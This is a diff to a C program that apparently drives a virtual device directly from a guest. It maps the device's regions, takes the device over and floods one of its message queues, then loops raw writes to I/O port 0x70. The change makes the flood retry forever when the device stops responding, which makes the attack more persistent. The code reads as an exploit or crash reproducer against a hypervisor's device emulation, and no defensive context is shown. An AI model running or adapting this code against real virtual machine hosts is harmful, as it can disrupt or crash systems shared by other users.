@@ -12,7 +12,7 @@
 #include <sys/mman.h>
 #include <unistd.h>
 
-enum { PAGE = 4096, CONTROL_OUT = 3, COMMON = 1, NOTIFY = 2, MESSAGES = 16, NO_PORT = 0xdead, PORT_READY = 3, DELAY_S = 3 };
+enum { PAGE = 4096, CONTROL_OUT = 3, COMMON = 1, NOTIFY = 2, MESSAGES = 16, NO_PORT = 0xdead, PORT_READY = 3, DELAY_S = 3, PATIENCE = 1 << 28 };
 
 struct region { volatile uint8_t *at; uint32_t multiplier; };
 
@@ -129,7 +129,11 @@ static void flood_port(void) {
     available[1] += MESSAGES;
     __sync_synchronize();
     *(volatile uint16_t *)(notify.at + notify_at * notify.multiplier) = CONTROL_OUT;
-    while (used[1] != available[1]) __sync_synchronize();
+    // The kernel may give a page another place, and then the device does not find it: all begins anew.
+    for (unsigned long looks = 0; used[1] != available[1]; looks++) {
+      if (looks == PATIENCE) return;
+      __sync_synchronize();
+    }
   }
 }
 
@@ -137,7 +141,7 @@ int main(void) {
   sleep(DELAY_S);
   if (find_device()) {
     take_device();
-    flood_port();
+    for (;;) flood_port();
   }
   if (iopl(3) < 0) fail("iopl");
   for (;;) outw(0, 0x70);
